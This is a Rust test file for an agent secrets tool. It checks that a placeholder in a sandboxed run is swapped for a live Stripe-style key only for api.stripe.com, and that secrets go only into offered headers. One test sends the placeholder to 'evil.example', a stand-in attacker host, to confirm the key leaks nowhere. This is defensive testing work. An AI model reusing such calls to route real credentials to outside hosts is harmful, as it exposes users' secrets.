//! A call by a script that runs inside: no store, no value, the run's own proxy.

use crate::support::place;
use crate::support::{Run, Upstream, fresh_key};

const LEVELS: [&str; 2] = ["sealed", "none"];

fn run(upstream: &Upstream, level: &str, words: &str) -> Run {
    let program = place::agentsecrets().display();
    Run::new().upstream(upstream).flags(["--isolation", level]).shell(&format!("{program} call {words}"))
}

#[test]
fn a_call_inside_sends_the_placeholder_and_the_run_swaps_it() {
    for level in LEVELS {
        let upstream = Upstream::start(["api.stripe.com", "evil.example"]);
        let key = fresh_key("sk_live_");
        let words = "--url https://api.stripe.com/test/echo --bearer STRIPE_KEY -d a=b";
        let finished = run(&upstream, level, words).secret("STRIPE_KEY", &key).run().succeeded();
        let seen = upstream.only("/test/echo");
        assert_eq!(seen.header("authorization"), Some(format!("Bearer {key}").as_str()), "{level}");
        assert!(finished.stdout().contains("authorization: Bearer {STRIPE_KEY}"), "{level}: {}", finished.stdout());
        // The run's log has it.
        let decisions = finished.audit_of("decision");
        assert!(decisions.iter().any(|decision| decision["decision"] == "injected"), "{level}: {decisions:?}");
        // To another target the placeholder is worthless.
        let words = "--url https://evil.example/test/echo --bearer STRIPE_KEY";
        run(&upstream, level, words).secret("STRIPE_KEY", &key).run();
        assert!(
            upstream
                .seen()
                .iter()
                .filter(|seen| seen.server_name == "evil.example")
                .all(|seen| !format!("{seen:?}").contains(&key))
        );
    }
}

#[test]
fn inside_only_headers_and_only_what_is_offered() {
    let upstream = Upstream::start(["api.stripe.com"]);
    let url = "--url https://api.stripe.com/test/echo";
    for (words, said) in [
        ("--query k=STRIPE_KEY", "into a header only"),
        ("--json-field /k=STRIPE_KEY", "into a header only"),
        ("--bearer ABSENT", "this run offers no secret `ABSENT`"),
    ] {
        let run = run(&upstream, "sealed", &format!("{url} {words}")).secret("STRIPE_KEY", &fresh_key("sk_live_"));
        let finished = run.run().ended_with(125);
        assert!(finished.stderr().contains(said), "{}", finished.stderr());
    }
    assert_eq!(upstream.requests(), 0);
}
